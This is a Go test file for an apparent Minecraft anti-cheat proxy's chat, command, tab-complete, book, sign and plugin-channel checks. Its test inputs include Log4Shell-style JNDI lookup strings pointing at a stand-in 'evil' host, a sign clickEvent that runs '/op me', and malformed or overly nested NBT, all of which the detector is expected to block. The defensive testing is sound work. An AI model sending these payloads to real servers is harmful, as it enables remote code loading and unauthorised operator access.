package detect

import (
	"encoding/binary"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/rustguard/rustguard/shared/detection"
	"github.com/rustguard/rustguard/shared/mcproto"
	"github.com/rustguard/rustguard/shared/mcproto/packets"
)

// l25Chat is a chat message on proto (unsigned, as mineflayer sends it
// offline).
func l25Chat(_ int32, msg string) l25Appender { return packets.Chat{Message: []byte(msg)} }

// l25CommandStep sends a command the way the client does on proto: a
// command packet since 1.19, a chat line starting with / before.
func l25CommandStep(proto int32, cmd string, advance time.Duration) l25Step {
	if proto >= mcproto.Protocol1_19 {
		return l25Step{advance: advance, kind: packets.KindChatCommand, send: packets.ChatCommand{Command: []byte(strings.TrimPrefix(cmd, "/"))}}
	}
	return l25Step{advance: advance, kind: packets.KindChat, send: packets.Chat{Message: []byte(cmd)}}
}

func TestChatInvalid(t *testing.T) {
	for _, tc := range []struct {
		msg      string
		old, new bool // flagged before 1.19.1, since
	}{
		{"hello there", false, false},
		{"ünïcödé ✓ 🙂", false, false},
		{"", true, true},
		{"a\u00a7cred", true, true},
		{"bell\x07", true, true},
		{"del\x7f", true, true},
		{" leading", false, true},
		{"trailing ", false, true},
		{"/not a command", false, true}, // a command before 1.19; chat can't start with / after
	} {
		for _, proto := range l25Protocols {
			s := newL25(t, proto, packets.GameModeSurvival, Config{})
			v := s.send(packets.KindChat, l25Chat(proto, tc.msg))
			want := tc.old
			if proto >= mcproto.Protocol1_19_1 {
				want = tc.new
			}
			got := s.flagged()
			if want && (!slices.Equal(got, []string{"chat.invalid"}) || v.Outcome != Drop) || !want && (len(got) != 0 || v.Outcome != Pass) {
				t.Errorf("%q on %d: %v %v, want flagged=%v", tc.msg, proto, v.Outcome, got, want)
			}
		}
	}
}

func TestCommandText(t *testing.T) {
	for _, tc := range []struct {
		cmd string
		bad bool
	}{
		{"/tp 1 2 3", false},
		{"/", false},        // typed "/" alone: an empty command
		{"/ spawn", false},  // typed with a space after the slash
		{"/say hi ", false}, // a click event may keep trailing spaces
		{"/say \u00a7k", true},
		{"/say \x00", true},
	} {
		for _, proto := range l25Protocols {
			s := newL25(t, proto, packets.GameModeSurvival, Config{})
			got, v := s.run([]l25Step{l25CommandStep(proto, tc.cmd, 0)})
			if tc.bad && (!slices.Equal(got, []string{"chat.invalid"}) || v.Outcome != Drop) || !tc.bad && (len(got) != 0 || v.Outcome != Pass) {
				t.Errorf("%q on %d: %v %v, want bad=%v", tc.cmd, proto, v.Outcome, got, tc.bad)
			}
		}
	}
}

func TestCommandRate(t *testing.T) {
	for _, proto := range l25Protocols {
		s := newL25(t, proto, packets.GameModeSurvival, Config{})
		cmd := func(d time.Duration) (Outcome, []string) {
			got, v := s.run([]l25Step{l25CommandStep(proto, "/home", d)})
			return v.Outcome, got
		}
		if o, got := cmd(0); o != Pass || len(got) != 0 {
			t.Fatalf("%d: first command %v %v", proto, o, got)
		}
		if o, got := cmd(10 * time.Millisecond); o != Drop || !slices.Equal(got, []string{"spam.command"}) {
			t.Errorf("%d: command 10 ms later: %v %v, want dropped", proto, o, got)
		}
		// The interval counts from the last command relayed.
		if o, got := cmd(45 * time.Millisecond); o != Pass || len(got) != 0 {
			t.Errorf("%d: command 55 ms after the last relayed: %v %v", proto, o, got)
		}
		for i := 0; i < 20; i++ {
			if o, got := cmd(time.Second); o != Pass || len(got) != 0 {
				t.Fatalf("%d: a command a second: %v %v", proto, o, got)
			}
		}
		// Chat does not count as a command.
		if o, got := s.run([]l25Step{{kind: packets.KindChat, send: l25Chat(proto, "hi")}}); len(o) != 0 || got.Outcome != Pass {
			t.Errorf("%d: chat right after a command: %v %v", proto, got, o)
		}
	}
}

func TestRateChecksKickOnlyWhenConfigured(t *testing.T) {
	kick, vl := detection.ActionKick, 3.0
	cfg := Config{Checks: map[string]CheckConfig{"spam.command": {Action: &kick, KickVL: &vl}}}
	for _, tc := range []struct {
		name string
		cfg  Config
		want Outcome
	}{{"default", Config{}, Drop}, {"kick after 3", cfg, Kick}} {
		s := newL25(t, 765, packets.GameModeSurvival, tc.cfg)
		var v Verdict
		for i := 0; i < 5; i++ { // four over the limit: VL 4 minus a little decay
			_, v = s.run([]l25Step{l25CommandStep(765, "/home", time.Millisecond)})
		}
		if v.Outcome != tc.want {
			t.Errorf("%s: fifth command in 5 ms: %v, want %v", tc.name, v.Outcome, tc.want)
		}
	}
}

func TestChatRate(t *testing.T) {
	for _, proto := range l25Protocols {
		s := newL25(t, proto, packets.GameModeSurvival, Config{})
		var got []string
		say := func(d time.Duration) Verdict {
			keys, v := s.run([]l25Step{{advance: d, kind: packets.KindChat, send: l25Chat(proto, "spam")}})
			got = append(got, keys...)
			return v
		}
		for i := 0; i < 20; i++ { // a burst of rate × window
			if v := say(0); v.Outcome != Pass {
				t.Fatalf("%d: message %d of a burst of 20: %v", proto, i+1, v.Outcome)
			}
		}
		if v := say(0); v.Outcome != Drop {
			t.Errorf("%d: 21st message: %v, want dropped", proto, v.Outcome)
		}
		if v := say(time.Second); v.Outcome != Pass {
			t.Errorf("%d: a second later: %v", proto, v.Outcome)
		}
		if !slices.Equal(got, []string{"chat.rate"}) {
			t.Errorf("%d: flagged %v", proto, got)
		}
	}
}

func TestTabComplete(t *testing.T) {
	blankOn := Config{Checks: map[string]CheckConfig{"chat.blank_tab": {Mode: ModeAlert}}}
	for _, tc := range []struct {
		name   string
		cfg    Config
		text   string
		from   int32
		want   []string
		action Outcome
	}{
		{"command", Config{}, "/give @p minecraft:stone", 0, nil, Pass},
		{"mineflayer's / after a command", Config{}, "/", 0, nil, Pass},
		{"256 chars", Config{}, "/" + strings.Repeat("a ", 127) + "a", 0, nil, Pass},
		{"257 chars", Config{}, "/" + strings.Repeat("a ", 128), 0, []string{"spam.tab_length"}, Drop},
		{"long word after a space", Config{}, "/say " + strings.Repeat("w", 100), 0, nil, Pass},
		{"65 chars without a space", Config{}, "/" + strings.Repeat("w", 64), 0, []string{"spam.tab_length"}, Drop},
		{"space at char 64", Config{}, strings.Repeat("w", 64) + " x", 0, []string{"spam.tab_length"}, Drop},
		{"space at char 63", Config{}, strings.Repeat("w", 63) + " xx", 0, nil, Pass},
		{"multi-byte chars before the space", Config{}, strings.Repeat("é", 60) + " " + strings.Repeat("x", 10), 0, nil, Pass},
		{"raised limit", Config{Checks: map[string]CheckConfig{"spam.tab_length": {Params: map[string]float64{"max_length": 1000}}}},
			"/" + strings.Repeat("a ", 200), 0, nil, Pass},
		{"blank, experimental on", blankOn, "/", mcproto.Protocol1_13, []string{"chat.blank_tab"}, Pass},
		{"spaces, experimental on", blankOn, "   ", mcproto.Protocol1_13, []string{"chat.blank_tab"}, Pass},
		{"lookup", Config{}, "/msg ${jndi:ldap://x/a}", 0, []string{"chat.lookup_string"}, Drop},
	} {
		for _, proto := range l25Protocols {
			if proto < tc.from {
				continue
			}
			s := newL25(t, proto, packets.GameModeSurvival, tc.cfg)
			v := s.send(packets.KindTabComplete, packets.TabComplete{TransactionID: 1, Text: []byte(tc.text)})
			got := s.flagged()
			if !slices.Equal(got, tc.want) || v.Outcome != tc.action {
				t.Errorf("%s on %d: %v %v, want %v %v", tc.name, proto, v.Outcome, got, tc.action, tc.want)
			}
		}
	}
}

func TestTabRate(t *testing.T) {
	for _, proto := range l25Protocols {
		s := newL25(t, proto, packets.GameModeSurvival, Config{})
		var got []string
		tab := func(d time.Duration) Outcome {
			keys, v := s.run([]l25Step{{advance: d, kind: packets.KindTabComplete, send: packets.TabComplete{Text: []byte("/tp ")}}})
			got = append(got, keys...)
			return v.Outcome
		}
		tab(0)
		if o := tab(5 * time.Millisecond); o != Drop || !slices.Equal(got, []string{"spam.tab"}) {
			t.Errorf("%d: tab 5 ms after the last: %v %v", proto, o, got)
		}
		got = nil
		// A typist sends a request per key: 10/s for a minute passes.
		for i := 0; i < 600; i++ {
			if o := tab(100 * time.Millisecond); o != Pass {
				t.Fatalf("%d: request %d at 10/s: %v", proto, i, o)
			}
		}
		// 100/s drains Paper's 500 within seconds.
		dropped := 0
		for i := 0; i < 1000; i++ {
			if tab(10*time.Millisecond) == Drop {
				dropped++
			}
		}
		if dropped == 0 || dropped > 900 {
			t.Errorf("%d: %d of 1000 requests at 100/s dropped", proto, dropped)
		}
		if len(got) != dropped || got[0] != "spam.tab" {
			t.Errorf("%d: flagged %v", proto, got)
		}
	}
}

func TestLookupStrings(t *testing.T) {
	const jndi = "${jndi:ldap://evil/a}"
	for _, tc := range []struct {
		name   string
		protos []int32
		kind   packets.Kind
		pk     func(proto int32) l25Appender
		want   []string
	}{
		{"chat", l25Protocols, packets.KindChat, func(p int32) l25Appender { return l25Chat(p, "look "+jndi) }, []string{"chat.lookup_string"}},
		{"quoting a dollar", l25Protocols, packets.KindChat, func(p int32) l25Appender { return l25Chat(p, "costs $5 {ok}") }, nil},
		{"command", []int32{765, 769}, packets.KindChatCommand, func(int32) l25Appender { return packets.ChatCommand{Command: []byte("say " + jndi)} }, []string{"chat.lookup_string"}},
		{"sign", l25Protocols, packets.KindUpdateSign, func(p int32) l25Appender {
			s := packets.UpdateSign{Location: mcproto.Position{X: 1, Y: 2, Z: 3}, FrontText: true}
			s.Lines[2] = []byte(jndi)
			return s
		}, []string{"chat.lookup_string"}},
		{"book page", []int32{765, 769}, packets.KindEditBook, func(int32) l25Appender {
			return packets.EditBook{Slot: 0, Pages: [][]byte{[]byte("page"), []byte(jndi)}}
		}, []string{"chat.lookup_string"}},
		{"book page in NBT", []int32{754}, packets.KindEditBook, func(p int32) l25Appender {
			return packets.EditBook{Item: packets.ItemStack{Raw: l25BookSlot(p, l25BookNBT([]string{jndi}, "", ""))}}
		}, []string{"chat.lookup_string"}},
		{"legacy book page", []int32{47, 340}, packets.KindPluginMessage, func(p int32) l25Appender {
			return packets.PluginMessage{Channel: []byte(bookEditChannel), Data: l25BookSlot(p, l25BookNBT([]string{jndi}, "", ""))}
		}, []string{"chat.lookup_string"}},
		{"channel name", []int32{47, 340}, packets.KindPluginMessage, func(int32) l25Appender {
			return packets.PluginMessage{Channel: []byte("${x}"), Data: []byte{1}}
		}, []string{"chat.lookup_string"}},
		{"registered channel", l25Protocols, packets.KindPluginMessage, func(p int32) l25Appender {
			return packets.PluginMessage{Channel: l25RegisterChannel(p), Data: []byte("a:b\x00${c}\x00")}
		}, []string{"chat.lookup_string"}},
		{"anvil name", []int32{47, 340}, packets.KindPluginMessage, func(int32) l25Appender {
			return packets.PluginMessage{Channel: []byte(legacyAnvilChannel), Data: mcproto.AppendString(nil, "${a}")}
		}, []string{"chat.lookup_string"}},
	} {
		for _, proto := range tc.protos {
			s := newL25(t, proto, packets.GameModeSurvival, Config{})
			v := s.send(tc.kind, tc.pk(proto))
			got := s.flagged()
			if !slices.Equal(got, tc.want) || tc.want != nil && v.Outcome != Drop {
				t.Errorf("%s on %d: %v %v, want %v", tc.name, proto, v.Outcome, got, tc.want)
			}
		}
	}
}

// NBT builders for book items.
func l25NBTName(b []byte, name string) []byte {
	b = binary.BigEndian.AppendUint16(b, uint16(len(name)))
	return append(b, name...)
}

// l25BookNBT is a book's NBT root as the client writes it, with an
// unrelated compound, an int array and a byte tag the scanner must skip.
func l25BookNBT(pages []string, title, author string) []byte {
	b := []byte{nbtCompound, 0, 0}
	b = append(b, nbtCompound)
	b = l25NBTName(b, "display")
	b = append(b, nbtString)
	b = l25NBTName(b, "Name")
	b = l25NBTName(b, "a book")
	b = append(b, nbtList)
	b = l25NBTName(b, "Lore")
	b = append(b, nbtString, 0, 0, 0, 1)
	b = l25NBTName(b, "lore")
	b = append(b, nbtEnd)
	b = append(b, nbtIntArray)
	b = l25NBTName(b, "ints")
	b = append(b, 0, 0, 0, 2, 0, 0, 0, 1, 0, 0, 0, 2)
	b = append(b, nbtList)
	b = l25NBTName(b, "pages")
	b = append(b, nbtString)
	b = binary.BigEndian.AppendUint32(b, uint32(len(pages)))
	for _, p := range pages {
		b = l25NBTName(b, p)
	}
	if title != "" {
		b = append(b, nbtString)
		b = l25NBTName(b, "title")
		b = l25NBTName(b, title)
	}
	if author != "" {
		b = append(b, nbtString)
		b = l25NBTName(b, "author")
		b = l25NBTName(b, author)
	}
	b = append(b, nbtByte)
	b = l25NBTName(b, "resolved")
	b = append(b, 1)
	return append(b, nbtEnd)
}

// l25BookSlot is a writable book item slot carrying nbt on proto.
func l25BookSlot(proto int32, nbt []byte) []byte {
	var b []byte
	switch {
	case proto >= 404:
		b = append(b, 1)
		b = mcproto.AppendVarInt(b, 800)
		b = append(b, 1)
	default:
		b = append(b, 0x01, 0x82, 1) // id 386, count 1
		if proto < mcproto.Protocol1_13 {
			b = append(b, 0, 0)
		}
	}
	return append(b, nbt...)
}

func l25RegisterChannel(proto int32) []byte {
	if proto < mcproto.Protocol1_13 {
		return []byte(registerChannelOld)
	}
	return []byte(registerChannel)
}

// l25Pages is n pages of chars characters each.
func l25Pages(n, chars int) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = strings.Repeat("p", chars)
	}
	return out
}

// l25BookCase is one book edit, sent in whatever packet the version uses.
type l25BookCase struct {
	name    string
	pages   []string
	title   string // signing when set
	author  string // before 1.17.1, when signing
	slot    int32  // 1.17.1+
	rawNBT  []byte // before 1.17.1: replaces the built NBT
	bad     bool
	onlyOld bool // only before 1.14
	onlyNew bool // only 1.14+
	// before1205: only before 1.20.5, whose data components allow 32-char titles
	before1205 bool
}

func (c l25BookCase) packet(proto int32) (packets.Kind, l25Appender) {
	signing := c.title != ""
	if proto >= l5Proto1_17_1 {
		e := packets.EditBook{Slot: c.slot, HasTitle: signing, Title: []byte(c.title)}
		for _, p := range c.pages {
			e.Pages = append(e.Pages, []byte(p))
		}
		return packets.KindEditBook, e
	}
	nbt := c.rawNBT
	if nbt == nil {
		nbt = l25BookNBT(c.pages, c.title, c.author)
	}
	slot := l25BookSlot(proto, nbt)
	if proto >= mcproto.Protocol1_13 {
		return packets.KindEditBook, packets.EditBook{Item: packets.ItemStack{Raw: slot}, Signing: signing}
	}
	ch := bookEditChannel
	if signing {
		ch = bookSignChannel
	}
	return packets.KindPluginMessage, packets.PluginMessage{Channel: []byte(ch), Data: slot}
}

func TestBookEdit(t *testing.T) {
	truncated := l25BookNBT([]string{"a"}, "", "")
	truncated = truncated[:len(truncated)-4]
	deep := []byte{nbtCompound, 0, 0, nbtList}
	deep = l25NBTName(deep, "x")
	for i := 0; i < 600; i++ {
		deep = append(deep, nbtList, 0, 0, 0, 1)
	}
	for _, tc := range []l25BookCase{
		{name: "a short book", pages: []string{"hello", "world"}},
		{name: "50 full pages", pages: l25Pages(50, 256)},
		{name: "100 full pages", pages: l25Pages(100, 1023), onlyNew: true},
		{name: "signed by the player", pages: []string{"the end"}, title: "My Book", author: "Steve"},
		{name: "off hand", pages: []string{"x"}, slot: offhandBookSlot},
		{name: "51 pages", pages: l25Pages(51, 1), bad: true, onlyOld: true},
		{name: "101 pages", pages: l25Pages(101, 1), bad: true},
		{name: "page of 257", pages: l25Pages(1, 257), bad: true, onlyOld: true},
		{name: "page of 1025", pages: l25Pages(1, 1025), bad: true},
		{name: "title of 17", pages: []string{"x"}, title: strings.Repeat("t", 17), author: "Steve", bad: true, before1205: true},
		{name: "title of 33", pages: []string{"x"}, title: strings.Repeat("t", 33), author: "Steve", bad: true},
		{name: "title with a section sign", pages: []string{"x"}, title: "\u00a7kmagic", author: "Steve", bad: true},
		{name: "slot 9", pages: []string{"x"}, slot: 9, bad: true},
		{name: "someone else's name", pages: []string{"x"}, title: "Mine", author: "Notch", bad: true},
		{name: "truncated NBT", rawNBT: truncated, bad: true},
		{name: "NBT nested past 512", rawNBT: deep, bad: true},
	} {
		for _, proto := range l25Protocols {
			if tc.onlyOld && proto >= l5Proto1_14 || tc.onlyNew && proto < l5Proto1_14 || tc.before1205 && proto >= mcproto.Protocol1_20_5 {
				continue
			}
			if (tc.slot != 0 || tc.rawNBT == nil && tc.author == "" && tc.title != "") && proto < l5Proto1_17_1 {
				continue // slot: 1.17.1+ only
			}
			if tc.rawNBT != nil && proto >= l5Proto1_17_1 || tc.author != "" && tc.author != "Steve" && proto >= l5Proto1_17_1 {
				continue // raw NBT and authors travel before 1.17.1 only
			}
			s := newL25(t, proto, packets.GameModeSurvival, Config{})
			kind, pk := tc.packet(proto)
			v := s.send(kind, pk)
			got := s.flagged()
			if tc.bad && (!slices.Equal(got, []string{"book.edit"}) || v.Outcome != Kick) || !tc.bad && (len(got) != 0 || v.Outcome != Pass) {
				t.Errorf("%s on %d: %v %v, want bad=%v", tc.name, proto, v.Outcome, got, tc.bad)
			}
		}
	}
}

func TestSignText(t *testing.T) {
	for _, tc := range []struct {
		name   string
		protos []int32
		lines  [4]string
		bad    bool
	}{
		{"plain", []int32{340, 754, 765, 769}, [4]string{"Welcome", "to", "spawn", ""}, false},
		{"1.8 JSON", []int32{47}, [4]string{`"Welcome"`, `{"text":"to"}`, `""`, `""`}, false},
		{"1.8 typed clickEvent", []int32{47}, [4]string{`"\"clickEvent\": hi"`, `""`, `""`, `""`}, false},
		{"1.8 run_command", []int32{47}, [4]string{`{"text":"free op","clickEvent":{"action":"run_command","value":"/op me"}}`, `""`, `""`, `""`}, true},
		{"1.8 huge JSON", []int32{47}, [4]string{`"` + strings.Repeat("a", 400) + `"`, `""`, `""`, `""`}, true},
	} {
		for _, proto := range tc.protos {
			s := newL25(t, proto, packets.GameModeSurvival, Config{})
			sign := packets.UpdateSign{Location: mcproto.Position{X: 1, Y: 64, Z: 1}, FrontText: true}
			for i, l := range tc.lines {
				sign.Lines[i] = []byte(l)
			}
			v := s.send(packets.KindUpdateSign, sign)
			got := s.flagged()
			if tc.bad && (!slices.Equal(got, []string{"sign.text"}) || v.Outcome != Kick) || !tc.bad && (len(got) != 0 || v.Outcome != Pass) {
				t.Errorf("%s on %d: %v %v, want bad=%v", tc.name, proto, v.Outcome, got, tc.bad)
			}
		}
	}
}

func TestChannelRegisterAndPayload(t *testing.T) {
	names := func(n, length int) []byte {
		var b []byte
		for i := 0; i < n; i++ {
			name := "mod:" + strings.Repeat("c", length-4-3) + string(rune('a'+i%26)) + string(rune('a'+i/26%26)) + string(rune('a'+i/676))
			b = append(b, name...)
			b = append(b, 0)
		}
		return b
	}
	for _, tc := range []struct {
		name   string
		protos []int32
		cfg    Config
		msg    func(proto int32) packets.PluginMessage
		want   []string
	}{
		{"fabric registering channels", l25Protocols, Config{}, func(p int32) packets.PluginMessage {
			return packets.PluginMessage{Channel: l25RegisterChannel(p), Data: []byte("fabric:registry/sync\x00fabric-screen-handler-api-v1:open_screen")}
		}, nil},
		{"124 channels", l25Protocols, Config{}, func(p int32) packets.PluginMessage {
			return packets.PluginMessage{Channel: l25RegisterChannel(p), Data: names(124, 20)}
		}, nil},
		{"125 channels", l25Protocols, Config{}, func(p int32) packets.PluginMessage {
			return packets.PluginMessage{Channel: l25RegisterChannel(p), Data: names(125, 20)}
		}, []string{"channel.register"}},
		{"a 65-char name", l25Protocols, Config{}, func(p int32) packets.PluginMessage {
			return packets.PluginMessage{Channel: l25RegisterChannel(p), Data: names(1, 65)}
		}, []string{"channel.register"}},
		{"a 64-char name", l25Protocols, Config{}, func(p int32) packets.PluginMessage {
			return packets.PluginMessage{Channel: l25RegisterChannel(p), Data: names(1, 64)}
		}, nil},
		{"mod channel", []int32{754, 765, 769}, Config{}, func(int32) packets.PluginMessage {
			return packets.PluginMessage{Channel: []byte("labymod3:main"), Data: make([]byte, 1000)}
		}, nil},
		{"legacy channel", []int32{47, 340}, Config{}, func(int32) packets.PluginMessage {
			return packets.PluginMessage{Channel: []byte("LMC"), Data: make([]byte, 1000)}
		}, nil},
		{"upper-case channel", []int32{754, 765, 769}, Config{}, func(int32) packets.PluginMessage {
			return packets.PluginMessage{Channel: []byte("Evil:Channel"), Data: []byte{1}}
		}, []string{"channel.payload"}},
		{"two colons", []int32{754, 765, 769}, Config{}, func(int32) packets.PluginMessage {
			return packets.PluginMessage{Channel: []byte("a:b:c"), Data: []byte{1}}
		}, []string{"channel.payload"}},
		{"over a lowered limit", l25Protocols, Config{Checks: map[string]CheckConfig{"channel.payload": {Params: map[string]float64{"max_bytes": 512}}}},
			func(p int32) packets.PluginMessage {
				ch := []byte("mod:data")
				if p < mcproto.Protocol1_13 {
					ch = []byte("MOD|Data")
				}
				return packets.PluginMessage{Channel: ch, Data: make([]byte, 513)}
			}, []string{"channel.payload"}},
	} {
		for _, proto := range tc.protos {
			s := newL25(t, proto, packets.GameModeSurvival, tc.cfg)
			v := s.send(packets.KindPluginMessage, tc.msg(proto))
			got := s.flagged()
			if !slices.Equal(got, tc.want) || tc.want != nil && v.Outcome != Kick || tc.want == nil && v.Outcome != Pass {
				t.Errorf("%s on %d: %v %v, want %v", tc.name, proto, v.Outcome, got, tc.want)
			}
		}
	}
}

func TestTextHelpers(t *testing.T) {
	for _, tc := range []struct {
		s     string
		units int
	}{{"", 0}, {"abc", 3}, {"é", 1}, {"✓", 1}, {"🙂", 2}, {"a🙂b", 4}} {
		if got := mcproto.UTF16Units([]byte(tc.s)); got != tc.units {
			t.Errorf("mcproto.UTF16Units(%q) = %d, want %d", tc.s, got, tc.units)
		}
	}
	for _, tc := range []struct {
		s    string
		want bool
	}{{"${", true}, {"a${b}", true}, {"$", false}, {"$ {", false}, {"$$${", true}, {"{$", false}} {
		if got := hasLookup([]byte(tc.s)); got != tc.want {
			t.Errorf("hasLookup(%q) = %v", tc.s, got)
		}
	}
	for _, tc := range []struct {
		s    string
		want bool
	}{{"minecraft:brand", true}, {"brand", true}, {"fabric:registry/sync", true}, {"a.b-c_d:e/f", true},
		{"", false}, {"A:b", false}, {"a/b:c", false}, {"a:b:c", false}, {"a b", false}, {"MC|Brand", false}} {
		if got := validIdentifier([]byte(tc.s)); got != tc.want {
			t.Errorf("validIdentifier(%q) = %v", tc.s, got)
		}
	}
}

// BenchmarkLayer5Chat measures a chat line and a command through every
// check of the engine.
func BenchmarkLayer5Chat(b *testing.B) {
	p, _ := newTestPlayer(b, 765, Config{})
	chat := packets.Chat{Message: []byte("hello there, how are you doing today?")}.AppendData(nil, 765)
	cmd := packets.ChatCommand{Command: []byte("tp 100 64 100")}.AppendData(nil, 765)
	now := t0
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		now = now.Add(time.Second)
		p.Serverbound(mcproto.StatePlay, packets.KindChat, chat, 0, now)
		p.Serverbound(mcproto.StatePlay, packets.KindChatCommand, cmd, 0, now)
	}
}
